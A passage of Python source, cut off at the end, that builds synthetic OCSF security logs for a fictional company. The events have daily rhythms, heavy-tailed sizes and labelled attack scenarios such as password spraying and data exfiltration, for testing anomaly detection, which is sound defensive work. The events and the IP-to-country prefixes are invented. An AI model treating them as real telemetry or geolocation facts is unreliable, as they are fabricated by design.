"""Realistic OCSF 1.x demo events: a population with habits, rhythms, heavy tails and labelled anomalies.

Not uniform noise: ~200 users (a dozen of them service accounts) and ~80 hosts, each user with a
home IP and country, working hours, favourite apps, SaaS services, cloud API calls and processes.
Events follow a diurnal and weekly rhythm, bytes and durations are heavy-tailed (lognormal with a
Pareto tail), each class fails a few percent of the time, and every event's outcome family agrees
with itself (status_id, status, status_code, http_response.code, rcode_id, severity_id; 4001 uses
activities 4 Fail / 5 Refuse as its failures). Seven attack or incident scenarios are injected,
together about 2% of events, and labelled in the reserved ``_label`` object
(``is_anomaly``, ``scenario`` = "normal" for normal events).

Everything random comes from one ``numpy.random.Generator(seed)``: the same seed gives the same
events and a byte-identical file. Sampling is vectorised per class; only the final dict assembly
loops in Python.
"""
from __future__ import annotations

import base64
import gzip
import io
import json
import logging
import os
import time as _time
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timezone
from pathlib import Path
from typing import Any, Callable, Iterable, Sequence

import numpy as np

from engine.atomic import atomic_write_bytes
from engine.errors import UserError

log = logging.getLogger(__name__)

DEFAULT_EVENTS = 72_000
DEFAULT_START = datetime(2025, 3, 3, tzinfo=timezone.utc)  # a Monday: days 5-6 and 12-13 are the weekends
PERIOD_DAYS = 14
MIN_EVENTS = 100  # below this the seven scenarios no longer fit in a few percent of the events
OCSF_VERSION = "1.1.0"
HOUR_MS = 3_600_000
N_HUMANS = 188
N_WORKSTATIONS = 58  # + 22 servers = 80 hosts; users share desks (hot-desking, VDI pools)
COMPANY = "corp.example"
AWS_ACCOUNT = "123456789012"
NORMAL = "normal"

# Share of all events per scenario (about 2% together) and the typical size of one incident.
SCENARIO_SHARES: dict[str, float] = {
    "password_spray": 0.0040,
    "new_country_login": 0.0010,
    "data_exfiltration": 0.0015,
    "port_scan": 0.0060,
    "suspicious_process_lineage": 0.0012,
    "offhours_privileged_api": 0.0013,
    "latency_storm": 0.0050,
}
SCENARIOS = tuple(SCENARIO_SHARES)

# ----------------------------------------------------------------------------- OCSF captions

CLASSES: dict[int, tuple[str, int]] = {  # class_uid -> (class_name, category_uid)
    3002: ("Authentication", 3),
    4001: ("Network Activity", 4),
    4002: ("HTTP Activity", 4),
    4003: ("DNS Activity", 4),
    6003: ("API Activity", 6),
    1007: ("Process Activity", 1),
}
CATEGORY_NAMES = {1: "System Activity", 3: "Identity & Access Management", 4: "Network Activity", 6: "Application Activity"}
ACTIVITY_NAMES: dict[int, dict[int, str]] = {
    3002: {1: "Logon", 2: "Logoff", 3: "Authentication Ticket"},
    4001: {1: "Open", 2: "Close", 3: "Reset", 4: "Fail", 5: "Refuse", 6: "Traffic"},
    4002: {1: "Connect", 2: "Delete", 3: "Get", 4: "Head", 5: "Options", 6: "Post", 7: "Put"},
    4003: {1: "Query", 2: "Response", 6: "Traffic"},
    6003: {1: "Create", 2: "Read", 3: "Update", 4: "Delete"},
    1007: {1: "Launch", 2: "Terminate"},
}
SEVERITY_NAMES = {1: "Informational", 2: "Low", 3: "Medium", 4: "High", 5: "Critical"}
HTTP_ACTIVITY = {"DELETE": 2, "GET": 3, "HEAD": 4, "POST": 6, "PUT": 7}
HTTP_REASONS = {
    200: "OK", 201: "Created", 204: "No Content", 302: "Found", 304: "Not Modified", 400: "Bad Request",
    401: "Unauthorized", 403: "Forbidden", 404: "Not Found", 429: "Too Many Requests",
    500: "Internal Server Error", 502: "Bad Gateway", 503: "Service Unavailable", 504: "Gateway Timeout",
}
AUTH_PROTOCOLS = {1: "NTLM", 2: "Kerberos", 5: "SAML"}
LOGON_TYPES = {2: "Interactive", 3: "Network", 4: "Batch", 5: "OS Service", 7: "Unlock"}
DIRECTIONS = {2: "Outbound", 3: "Lateral"}
DNS_RCODES = {0: "NoError", 2: "ServFail", 3: "NXDomain", 5: "Refused"}
OBS_HOSTNAME, OBS_IP, OBS_USER, OBS_URL, OBS_PROCESS, OBS_RESOURCE = 1, 2, 4, 6, 9, 10

# ----------------------------------------------------------------------------- catalogues

FIRST_NAMES = (
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "karl", "laura",
    "mallory", "nina", "oscar", "peggy", "quinn", "rupert", "sybil", "trent", "ursula", "victor", "wendy",
    "xavier", "yara", "zoe", "amir", "bianca", "chen", "deepa", "emeka", "fatima", "goran", "hana",
    "ines", "jonas", "kenji", "lena", "mateo", "noor",
)
LAST_NAMES = (
    "smith", "jones", "garcia", "miller", "davis", "martin", "lopez", "wilson", "anderson", "thomas",
    "moore", "jackson", "white", "harris", "clark", "lewis", "walker", "young", "king", "wright", "scott",
    "green", "baker", "adams", "nelson", "hill", "campbell", "mitchell", "roberts", "carter", "phillips",
    "evans", "turner", "torres", "parker", "collins", "edwards", "stewart", "morris", "murphy",
)
SERVICE_ACCOUNTS = (
    "svc-backup", "svc-deploy", "svc-monitor", "svc-etl", "svc-ci", "svc-reporting",
    "svc-sync", "svc-patch", "svc-audit", "svc-mail", "svc-db", "svc-web",
)
HOME_COUNTRIES = ("US", "GB", "DE", "IN", "CA", "FR", "BR", "JP")
HOME_COUNTRY_P = (0.60, 0.10, 0.08, 0.08, 0.06, 0.04, 0.02, 0.02)
ATTACK_COUNTRIES = ("RU", "CN", "NG", "RO", "VN", "KP")
COUNTRY_PREFIX = {  # first octet of public addresses we place in each country (illustrative, not geo-accurate)
    "US": 73, "GB": 81, "DE": 91, "IN": 49, "CA": 99, "FR": 90, "BR": 177, "JP": 126,
    "RU": 95, "CN": 58, "NG": 102, "RO": 86, "VN": 113, "KP": 175,
}
OFFICE_EGRESS_IP = "198.51.100.10"  # the office NAT: on-site users reach SaaS from here

# (short hostname, role, OS, open TCP ports, relative popularity as a destination)
SERVERS: tuple[tuple[str, str, str, tuple[int, ...], float], ...] = (
    ("dc01", "dc", "Windows", (53, 88, 135, 389, 445, 636), 6.0),
    ("dc02", "dc", "Windows", (53, 88, 135, 389, 445, 636), 4.0),
    ("dns01", "dns", "Linux", (53,), 1.0),
    ("dns02", "dns", "Linux", (53,), 1.0),
    ("web01", "web", "Linux", (80, 443), 5.0),
    ("web02", "web", "Linux", (80, 443), 4.0),
    ("web03", "web", "Linux", (80, 443), 2.0),
    ("api01", "api", "Linux", (443, 8443), 5.0),
    ("api02", "api", "Linux", (443, 8443), 3.0),
    ("db01", "db", "Linux", (5432,), 3.0),
    ("db02", "db", "Linux", (5432,), 2.0),
    ("db03", "db", "Linux", (3306,), 1.0),
    ("file01", "file", "Windows", (139, 445), 5.0),
    ("file02", "file", "Windows", (139, 445), 2.0),
    ("mail01", "mail", "Windows", (25, 443, 587), 4.0),
    ("jump01", "jump", "Linux", (22, 3389), 1.0),
    ("build01", "build", "Linux", (22, 443, 8080), 2.0),
    ("build02", "build", "Linux", (22, 443, 8080), 1.0),
    ("log01", "log", "Linux", (443, 514, 9200), 1.0),
    ("backup01", "backup", "Linux", (22, 873), 1.0),
    ("proxy01", "proxy", "Linux", (3128, 8080), 2.0),
    ("vpn01", "vpn", "Linux", (443, 1194), 1.0),
)
SERVER_INDEX = {name: i for i, (name, *_rest) in enumerate(SERVERS)}
RESOLVERS = (SERVER_INDEX["dns01"], SERVER_INDEX["dns02"])
SERVICE_HOME = {  # where each service account runs
    "svc-backup": "backup01", "svc-deploy": "build01", "svc-monitor": "log01", "svc-etl": "db01",
    "svc-ci": "build02", "svc-reporting": "db02", "svc-sync": "file01", "svc-patch": "dc01",
    "svc-audit": "log01", "svc-mail": "mail01", "svc-db": "db03", "svc-web": "web01",
}
HEAVY_SENDERS = {"svc-backup": 30.0, "svc-etl": 8.0, "svc-sync": 6.0}  # nightly bulk copies: normal big flows

# Web sites: (url hostname, server or None for the internet, [(method, path template, query template)])
SITES: tuple[tuple[str, str | None, tuple[tuple[str, str, str], ...]], ...] = (
    ("intranet.corp.example", "web01", (("GET", "/", ""), ("GET", "/news/{n}", ""), ("GET", "/search", "q={word}"),
                                         ("GET", "/static/app.{hex}.js", ""), ("GET", "/people/{user}", ""))),
    ("jira.corp.example", "web02", (("GET", "/browse/OPS-{n}", ""), ("GET", "/rest/api/2/issue/OPS-{n}", "fields=summary"),
                                     ("POST", "/rest/api/2/issue/OPS-{n}/comment", ""), ("PUT", "/rest/api/2/issue/OPS-{n}", ""))),
    ("wiki.corp.example", "web02", (("GET", "/display/ENG/{word}", ""), ("GET", "/rest/api/search", "cql=text~{word}"),
                                     ("POST", "/rest/api/content", ""))),
    ("git.corp.example", "build01", (("GET", "/org/repo-{k}/pulls", "state=open"), ("GET", "/api/v3/repos/org/repo-{k}/commits", "per_page=50"),
                                      ("POST", "/org/repo-{k}.git/git-upload-pack", ""), ("GET", "/org/repo-{k}/blob/main/{word}.py", ""))),
    ("api.corp.example", "api01", (("GET", "/v1/orders/{n}", ""), ("POST", "/v1/checkout", ""), ("GET", "/v1/inventory", "sku={n}"),
                                    ("DELETE", "/v1/carts/{n}", ""), ("HEAD", "/health", ""))),
    ("grafana.corp.example", "web03", (("GET", "/d/{hex}/service-overview", "from=now-6h"), ("POST", "/api/ds/query", ""))),
    ("outlook.office365.com", None, (("GET", "/mail/inbox", ""), ("POST", "/owa/service.svc", "action=GetItem"))),
    ("app.slack.com", None, (("GET", "/client/T0{k}", ""), ("POST", "/api/chat.postMessage", ""))),
    ("github.com", None, (("GET", "/org/repo-{k}", ""), ("GET", "/search", "q={word}"))),
    ("www.google.com", None, (("GET", "/search", "q={word}"),)),
)
LATENCY_STORM_SITE = 4  # api.corp.example
BROWSER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
)
TOOL_AGENTS = ("python-requests/2.31.0", "curl/8.5.0", "Go-http-client/1.1")
WORDS = ("budget", "roadmap", "oncall", "invoice", "release", "vpn", "holiday", "kubernetes", "postgres", "okrs", "expenses", "benefits")

SAAS_SERVICES = ("Office 365", "Salesforce", "GitHub", "Slack", "Workday", "Jira", "Zoom", "AWS Console")

# Cloud API operations: (service host, operation, activity_id, resource type, privileged)
API_OPERATIONS: tuple[tuple[str, str, int, str, bool], ...] = (
    ("s3.amazonaws.com", "GetObject", 2, "AWS::S3::Object", False),
    ("s3.amazonaws.com", "PutObject", 1, "AWS::S3::Object", False),
    ("s3.amazonaws.com", "ListBuckets", 2, "AWS::S3::Bucket", False),
    ("s3.amazonaws.com", "DeleteObject", 4, "AWS::S3::Object", False),
    ("ec2.amazonaws.com", "DescribeInstances", 2, "AWS::EC2::Instance", False),
    ("ec2.amazonaws.com", "StartInstances", 3, "AWS::EC2::Instance", False),
    ("ec2.amazonaws.com", "StopInstances", 3, "AWS::EC2::Instance", False),
    ("lambda.amazonaws.com", "GetFunction", 2, "AWS::Lambda::Function", False),
    ("lambda.amazonaws.com", "UpdateFunctionCode", 3, "AWS::Lambda::Function", False),
    ("dynamodb.amazonaws.com", "GetItem", 2, "AWS::DynamoDB::Table", False),
    ("dynamodb.amazonaws.com", "PutItem", 1, "AWS::DynamoDB::Table", False),
    ("dynamodb.amazonaws.com", "Query", 2, "AWS::DynamoDB::Table", False),
    ("kms.amazonaws.com", "Decrypt", 2, "AWS::KMS::Key", False),
    ("sts.amazonaws.com", "AssumeRole", 1, "AWS::IAM::Role", False),
    ("sts.amazonaws.com", "GetCallerIdentity", 2, "AWS::IAM::User", False),
    ("iam.amazonaws.com", "GetUser", 2, "AWS::IAM::User", False),
    ("iam.amazonaws.com", "ListUsers", 2, "AWS::IAM::User", False),
    ("iam.amazonaws.com", "ListRoles", 2, "AWS::IAM::Role", False),
    ("iam.amazonaws.com", "CreateUser", 1, "AWS::IAM::User", True),
    ("iam.amazonaws.com", "AttachUserPolicy", 3, "AWS::IAM::User", True),
    ("iam.amazonaws.com", "CreateAccessKey", 1, "AWS::IAM::AccessKey", True),
    ("iam.amazonaws.com", "PutUserPolicy", 3, "AWS::IAM::Policy", True),
    ("iam.amazonaws.com", "CreateLoginProfile", 1, "AWS::IAM::User", True),
    ("iam.amazonaws.com", "DeleteUser", 4, "AWS::IAM::User", True),
)
API_OP_INDEX = {op: i for i, (_svc, op, *_rest) in enumerate(API_OPERATIONS)}
API_PRIVILEGED = np.array([row[4] for row in API_OPERATIONS])
API_WRITES = np.array([row[2] != 2 for row in API_OPERATIONS])
RESOURCE_NAMES = {
    "AWS::S3::Object": ("corp-data/exports/{n}.csv", "corp-logs/app/{n}.gz", "corp-reports/q1/{n}.pdf"),
    "AWS::S3::Bucket": ("corp-data", "corp-logs", "corp-reports", "corp-backups"),
    "AWS::EC2::Instance": ("i-0{hex}",),
    "AWS::Lambda::Function": ("orders-{word}", "thumbnailer"),
    "AWS::DynamoDB::Table": ("sessions", "orders", "inventory"),
    "AWS::KMS::Key": ("key/{hex}",),
    "AWS::IAM::Role": ("role/deploy", "role/readonly", "role/etl"),
    "AWS::IAM::User": ("user/{user}",),
    "AWS::IAM::AccessKey": ("user/{user}/AKIA{HEX}",),
    "AWS::IAM::Policy": ("user/{user}/policy/inline-{k}",),
}

# Processes: (name, OS group, parent name, command line template). OS groups: win, unix (macOS/Linux
# desktops), server (Linux servers), winserver.
PROCESSES: tuple[tuple[str, str, str, str], ...] = (
    ("chrome.exe", "win", "explorer.exe", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default'),
    ("msedge.exe", "win", "explorer.exe", r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://intranet.corp.example/'),
    ("outlook.exe", "win", "explorer.exe", r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"'),
    ("winword.exe", "win", "explorer.exe", r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Documents\Report-{n}.docx"'),
    ("excel.exe", "win", "explorer.exe", r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\{user}\Documents\{word}-{n}.xlsx"'),
    ("teams.exe", "win", "explorer.exe", r'"C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe"'),
    ("code.exe", "win", "explorer.exe", r'"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe" C:\src\repo-{k}'),
    ("notepad.exe", "win", "explorer.exe", r'notepad.exe C:\Users\{user}\Desktop\notes-{n}.txt'),
    ("svchost.exe", "win", "services.exe", r'C:\Windows\System32\svchost.exe -k netsvcs -p'),
    ("powershell.exe", "win", "explorer.exe", r'powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\{word}.ps1'),
    ("cmd.exe", "win", "explorer.exe", r'cmd.exe /c ipconfig /all'),
    ("Google Chrome", "unix", "launchd", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"),
    ("Slack", "unix", "launchd", "/Applications/Slack.app/Contents/MacOS/Slack"),
    ("zsh", "unix", "Terminal", "-zsh"),
    ("git", "unix", "zsh", "git pull --rebase origin main"),
    ("python3", "unix", "zsh", "python3 -m pytest tests/test_{word}.py"),
    ("ssh", "unix", "zsh", "ssh {user}@jump01.corp.example"),
    ("docker", "unix", "zsh", "docker compose up -d"),
    ("nginx", "server", "systemd", "nginx: worker process"),
    ("sshd", "server", "systemd", "sshd: {user} [priv]"),
    ("bash", "server", "sshd", "-bash"),
    ("python3", "server", "cron", "python3 /opt/etl/run.py --date 2025-03-{k}"),
    ("backup.sh", "server", "cron", "/bin/sh /opt/backup/backup.sh --target backup01"),
    ("rsync", "server", "backup.sh", "rsync -az /var/lib/data backup01:/srv/backup/"),
    ("java", "server", "systemd", "java -Xmx4g -jar /opt/app/app.jar"),
    ("postgres", "server", "systemd", "postgres: checkpointer"),
    ("svchost.exe", "winserver", "services.exe", r'C:\Windows\System32\svchost.exe -k netsvcs -p'),
    ("lsass.exe", "winserver", "wininit.exe", r'C:\Windows\System32\lsass.exe'),
    ("dfsrs.exe", "winserver", "services.exe", r'C:\Windows\System32\dfsrs.exe'),
    ("powershell.exe", "winserver", "svchost.exe", r'powershell.exe -NoProfile -File C:\Scripts\{word}.ps1'),
)
PROCESS_GROUPS = np.array([row[1] for row in PROCESSES])
ADMIN_TOOLS = np.array([row[0] in ("powershell.exe", "cmd.exe", "ssh") for row in PROCESSES])

DNS_NAMES = (
    "intranet.corp.example", "jira.corp.example", "wiki.corp.example", "git.corp.example", "api.corp.example",
    "grafana.corp.example", "mail01.corp.example", "dc01.corp.example", "login.microsoftonline.com",
    "outlook.office365.com", "www.google.com", "app.slack.com", "github.com", "api.github.com",
    "s3.amazonaws.com", "sts.amazonaws.com", "teams.microsoft.com", "zoom.us", "salesforce.com",
    "update.googleapis.com", "ocsp.digicert.com", "cdn.jsdelivr.net", "fonts.gstatic.com", "time.windows.com",
    "settings-win.data.microsoft.com", "registry.npmjs.org", "pypi.org", "files.pythonhosted.org",
    "docker.io", "wikipedia.org", "news.ycombinator.com", "stackoverflow.com",
)
DNS_NX_NAMES = ("wpad.corp.example", "gogle.com", "intranet.corp", "printer-3f.corp.example", "isatap.corp.example", "jira.corp.exmaple")
DNS_TYPES = ("A", "AAAA", "CNAME", "MX", "TXT", "PTR")
DNS_TYPE_P = (0.62, 0.26, 0.05, 0.02, 0.03, 0.02)

AUTH_FAILURES = (  # (status_code, status_detail, severity_id)
    ("0xC000006A", "Unknown user name or bad password.", 3),
    ("0xC0000234", "Account locked out.", 4),
    ("0xC0000071", "The password has expired.", 3),
    ("MFA_DENIED", "MFA challenge failed.", 3),
)
API_FAILURES = (("AccessDenied", 403, 3), ("ThrottlingException", 429, 3), ("InternalError", 500, 3))

PRODUCTS = {  # name -> (product name, vendor, log_name)
    "windows": ("Microsoft Windows", "Microsoft", "Security"),
    "okta": ("Okta", "Okta", "System Log"),
    "zeek_conn": ("Zeek", "Zeek", "conn"),
    "zeek_dns": ("Zeek", "Zeek", "dns"),
    "nginx": ("NGINX", "F5", "access"),
    "proxy": ("Squid", "Squid", "access"),
    "cloudtrail": ("CloudTrail", "AWS", "Management"),
    "sysmon": ("Sysmon", "Microsoft", "Microsoft-Windows-Sysmon/Operational"),
    "osquery": ("osquery", "osquery", "process_events"),
}


# ----------------------------------------------------------------------------- population


@dataclass(frozen=True)
class Population:
    """Who and what generates the events: users with habits and the hosts they work on."""

    user_name: np.ndarray  # object [U]
    user_uid: np.ndarray  # object [U]
    is_service: np.ndarray  # bool [U]
    is_admin: np.ndarray  # bool [U]
    is_remote: np.ndarray  # bool [U]: logs on to SaaS from home rather than the office
    country: np.ndarray  # object [U]
    home_ip: np.ndarray  # object [U]: where this user's SaaS and cloud sessions come from
    host: np.ndarray  # int [U]: the host the user works on
    activity: np.ndarray  # float [U]: relative event volume
    fail_prone: np.ndarray  # float [U]: multiplies the authentication failure rate
    browser: np.ndarray  # int [U] into BROWSER_AGENTS
    intensity: np.ndarray  # float [U, PERIOD_DAYS*24]: expected events per hour, relative
    class_cum: np.ndarray  # float [U, 6]: cumulative class mix, order of CLASS_ORDER
    site_cum: np.ndarray  # float [U, len(SITES)]
    saas_cum: np.ndarray  # float [U, len(SAAS_SERVICES)]
    api_cum: np.ndarray  # float [U, len(API_OPERATIONS)]
    process_cum: np.ndarray  # float [U, len(PROCESSES)]
    host_name: np.ndarray  # object [H]: fully qualified
    host_ip: np.ndarray  # object [H]
    host_os: np.ndarray  # object [H]: Windows | macOS | Linux
    host_group: np.ndarray  # object [H]: win | unix | server | winserver (process catalogue)
    external_ip: np.ndarray  # object [E]: internet destinations, in order of popularity

    @property
    def n_users(self) -> int:
        return len(self.user_name)


CLASS_ORDER = (3002, 4001, 4002, 6003, 1007, 4003)
HUMAN_CLASS_MIX = np.array([0.08, 0.17, 0.30, 0.10, 0.13, 0.22])
ADMIN_CLASS_MIX = np.array([0.08, 0.15, 0.22, 0.22, 0.15, 0.18])
SERVICE_CLASS_MIX = np.array([0.03, 0.37, 0.05, 0.28, 0.17, 0.10])


def build_population(rng: np.random.Generator) -> Population:
    """Draw the users, their habits and the hosts (the same seed gives the same organisation)."""
    hosts = _build_hosts(rng)
    n_users = N_HUMANS + len(SERVICE_ACCOUNTS)
    is_service = np.arange(n_users) >= N_HUMANS
    names = np.array(_human_names(rng) + list(SERVICE_ACCOUNTS), dtype=object)
    uids = np.array([f"S-1-5-21-3623811015-3361044348-30300820-{1105 + i}" for i in range(n_users)], dtype=object)
    is_admin = ~is_service & (rng.random(n_users) < 0.06)
    country = np.where(is_service, "US", rng.choice(np.array(HOME_COUNTRIES, dtype=object), size=n_users, p=HOME_COUNTRY_P))
    is_remote = ~is_service & ((rng.random(n_users) < 0.35) | (country != "US"))
    home_ip = np.array(_public_ips(rng, country), dtype=object)
    home_ip[~is_remote] = OFFICE_EGRESS_IP
    user_host = rng.integers(len(SERVERS), len(SERVERS) + N_WORKSTATIONS, size=n_users)
    for i in np.flatnonzero(is_service):
        user_host[i] = SERVER_INDEX[SERVICE_HOME[str(names[i])]]
        home_ip[i] = hosts["ip"][user_host[i]]
    class_mix = np.where(is_service[:, None], SERVICE_CLASS_MIX, np.where(is_admin[:, None], ADMIN_CLASS_MIX, HUMAN_CLASS_MIX))
    class_mix = class_mix * rng.lognormal(0.0, 0.25, size=class_mix.shape)  # everyone a little different
    return Population(
        user_name=names, user_uid=uids, is_service=is_service, is_admin=is_admin, is_remote=is_remote,
        country=country.astype(object), home_ip=home_ip, host=user_host,
        activity=rng.lognormal(0.0, 0.6, size=n_users) * np.where(is_service, 2.0, 1.0),
        fail_prone=rng.lognormal(0.0, 0.5, size=n_users),
        browser=rng.choice(len(BROWSER_AGENTS), size=n_users, p=(0.45, 0.2, 0.15, 0.12, 0.08)),
        intensity=_hourly_intensity(rng, is_service),
        class_cum=_cumulative(class_mix),
        site_cum=_cumulative(_favourites(rng, n_users, len(SITES), n_favourites=4)),
        saas_cum=_cumulative(_favourites(rng, n_users, len(SAAS_SERVICES), n_favourites=3)),
        api_cum=_cumulative(_api_habits(rng, is_service, is_admin)),
        process_cum=_cumulative(_process_habits(rng, hosts["group"][user_host], is_admin)),
        host_name=hosts["name"], host_ip=hosts["ip"], host_os=hosts["os"], host_group=hosts["group"],
        external_ip=np.array(_public_ips(rng, rng.choice(np.array(HOME_COUNTRIES, dtype=object), size=150, p=HOME_COUNTRY_P)), dtype=object),
    )


def _build_hosts(rng: np.random.Generator) -> dict[str, np.ndarray]:
    server_names = [f"{name}.{COMPANY}" for name, *_ in SERVERS]
    server_ips = [f"10.0.1.{10 + i}" for i in range(len(SERVERS))]
    server_os = [os_name for _n, _r, os_name, _p, _w in SERVERS]
    ws_os = rng.choice(np.array(["Windows", "macOS", "Linux"], dtype=object), size=N_WORKSTATIONS, p=(0.75, 0.15, 0.10))
    names = server_names + [f"ws-{i + 1:04d}.{COMPANY}" for i in range(N_WORKSTATIONS)]
    ips = server_ips + [f"10.10.{i // 200}.{20 + i % 200}" for i in range(N_WORKSTATIONS)]
    oses = server_os + list(ws_os)
    groups = ["winserver" if o == "Windows" else "server" for o in server_os] + ["win" if o == "Windows" else "unix" for o in ws_os]
    as_array = lambda values: np.array(values, dtype=object)  # noqa: E731
    return {"name": as_array(names), "ip": as_array(ips), "os": as_array(oses), "group": as_array(groups)}


def _human_names(rng: np.random.Generator) -> list[str]:
    picks = rng.choice(len(FIRST_NAMES) * len(LAST_NAMES), size=N_HUMANS, replace=False)
    return [f"{FIRST_NAMES[p // len(LAST_NAMES)]}.{LAST_NAMES[p % len(LAST_NAMES)]}" for p in picks]


def _public_ips(rng: np.random.Generator, countries: Sequence[str]) -> list[str]:
    octets = rng.integers(1, 255, size=(len(countries), 3))
    return [f"{COUNTRY_PREFIX[c]}.{a}.{b}.{d}" for c, (a, b, d) in zip(countries, octets.tolist())]


def _hourly_intensity(rng: np.random.Generator, is_service: np.ndarray) -> np.ndarray:
    """Relative events per hour of the period for each user: office hours for people, nightly batches for services."""
    n = len(is_service)
    start = rng.integers(7, 11, size=n)[:, None, None]  # the hour each person starts work
    length = rng.integers(8, 11, size=n)[:, None, None]
    weekend_keen = rng.lognormal(0.0, 0.7, size=n)[:, None, None]
    hour = np.arange(24)[None, None, :]
    weekend = (np.arange(PERIOD_DAYS) % 7 >= 5)[None, :, None]
    at_work = (hour >= start) & (hour < start + length)
    evening = (hour >= 6) & (hour < 23)
    weekday_rate = np.where(at_work, np.where(hour == 12, 0.6, 1.0), np.where(evening, 0.06, 0.012))
    weekend_rate = np.where((hour >= 9) & (hour < 20), 0.05 * weekend_keen, 0.01)
    human = np.where(weekend, weekend_rate, weekday_rate)
    batch_hour = rng.integers(0, 4, size=n)[:, None, None]  # services run their nightly job at 0-3 am
    service = np.where((hour >= batch_hour) & (hour < batch_hour + 2), 1.0, np.where(weekend, 0.12, 0.2))
    rates = np.where(is_service[:, None, None], service, human)
    return rates.reshape(n, PERIOD_DAYS * 24)


def _favourites(rng: np.random.Generator, n_users: int, n_items: int, *, n_favourites: int, background: float = 0.02) -> np.ndarray:
    """Per-user weights: a few favourite items carry most of the mass, the rest is rare but possible."""
    weights = np.full((n_users, n_items), background)
    for u in range(n_users):
        favourites = rng.choice(n_items, size=min(n_favourites, n_items), replace=False)
        weights[u, favourites] += rng.gamma(2.0, 1.0, size=len(favourites))
    return weights


def _api_habits(rng: np.random.Generator, is_service: np.ndarray, is_admin: np.ndarray) -> np.ndarray:
    weights = _favourites(rng, len(is_service), len(API_OPERATIONS), n_favourites=5, background=0.01)
    # Privileged IAM writes belong to administrators, in office hours; nobody else does them.
    weights[:, API_PRIVILEGED] = np.where(is_admin[:, None], 0.15, 0.0)
    weights[np.ix_(is_service, API_WRITES)] *= 3.0  # services write: backups, ETL loads, deploys
    return weights


def _process_habits(rng: np.random.Generator, host_group: np.ndarray, is_admin: np.ndarray) -> np.ndarray:
    weights = _favourites(rng, len(host_group), len(PROCESSES), n_favourites=4, background=0.05)
    weights *= PROCESS_GROUPS[None, :] == host_group[:, None]  # only what runs on the user's OS
    weights[:, ADMIN_TOOLS] *= np.where(is_admin, 4.0, 0.3)[:, None]
    return weights


def _cumulative(weights: np.ndarray) -> np.ndarray:
    cum = np.cumsum(weights, axis=1)
    return cum / cum[:, -1:]


def _choose_per_row(rng: np.random.Generator, cum: np.ndarray, rows: np.ndarray) -> np.ndarray:
    """One categorical draw per event from the event's own row of a cumulative probability matrix."""
    draws = rng.random(len(rows))
    return np.minimum((draws[:, None] > cum[rows]).sum(axis=1), cum.shape[1] - 1)


def _zipf_probs(n: int, exponent: float) -> np.ndarray:
    p = 1.0 / np.arange(1, n + 1) ** exponent
    return p / p.sum()


def _heavy_tailed(rng: np.random.Generator, n: int, *, median: float, sigma: float, tail_share: float = 0.02) -> np.ndarray:
    """Lognormal body with a Pareto tail: most values near the median, a few orders of magnitude above it."""
    values = rng.lognormal(np.log(median), sigma, size=n)
    tail = rng.random(n) < tail_share
    values[tail] *= 1.0 + rng.pareto(1.2, size=int(tail.sum())) * 10.0
    return np.maximum(values, 1.0)


def _sample_times(rng: np.random.Generator, pop: Population, users: np.ndarray, start_ms: int) -> np.ndarray:
    """Event times (epoch ms) drawn from each user's own hourly rhythm."""
    n_bins = pop.intensity.shape[1]
    cum = _cumulative(pop.intensity)
    flat = (cum + np.arange(pop.n_users)[:, None]).ravel()  # row u spans (u, u+1]
    idx = np.searchsorted(flat, users + rng.random(len(users)), side="right")
    hour_bin = np.clip(idx - users * n_bins, 0, n_bins - 1)
    return start_ms + hour_bin * HOUR_MS + rng.integers(0, HOUR_MS, size=len(users))


# ----------------------------------------------------------------------------- event assembly


def _base(class_uid: int, activity_id: int, time_ms: int, *, failed: bool, fail_severity: int, status_code: str,
          status_detail: str, message: str, duration: int, product: str) -> dict[str, Any]:
    """The base attributes every class shares; the outcome family is derived here, in one place."""
    class_name, category_uid = CLASSES[class_uid]
    activity_name = ACTIVITY_NAMES[class_uid][activity_id]
    severity_id = fail_severity if failed else 1
    product_name, vendor, log_name = PRODUCTS[product]
    return {
        "class_uid": class_uid, "class_name": class_name,
        "category_uid": category_uid, "category_name": CATEGORY_NAMES[category_uid],
        "activity_id": activity_id, "activity_name": activity_name,
        "type_uid": class_uid * 100 + activity_id, "type_name": f"{class_name}: {activity_name}",
        "severity_id": severity_id, "severity": SEVERITY_NAMES[severity_id],
        "time": time_ms, "duration": duration,
        "status_id": 2 if failed else 1, "status": "Failure" if failed else "Success",
        "status_code": status_code, "status_detail": status_detail, "message": message,
        "metadata": {"product": {"name": product_name, "vendor_name": vendor}, "version": OCSF_VERSION,
                     "uid": "", "log_name": log_name},
    }


def _finish(event: dict[str, Any], observables: list[tuple[str, int, str]], scenario: str) -> dict[str, Any]:
    event["observables"] = [{"name": n, "type_id": t, "value": v} for n, t, v in observables]
    event["_label"] = {"is_anomaly": scenario != NORMAL, "scenario": scenario}
    return event


def _user(pop: Population, u: int) -> dict[str, str]:
    return {"name": pop.user_name[u], "uid": pop.user_uid[u], "domain": "CORP"}


def _scenario_list(scenario: str | Sequence[str], n: int) -> list[str]:
    return [scenario] * n if isinstance(scenario, str) else list(scenario)


def _as_list(values: Any, n: int) -> list:
    if isinstance(values, np.ndarray):
        return values.tolist()
    if isinstance(values, (list, tuple)):
        return list(values)
    return [values] * n


@dataclass
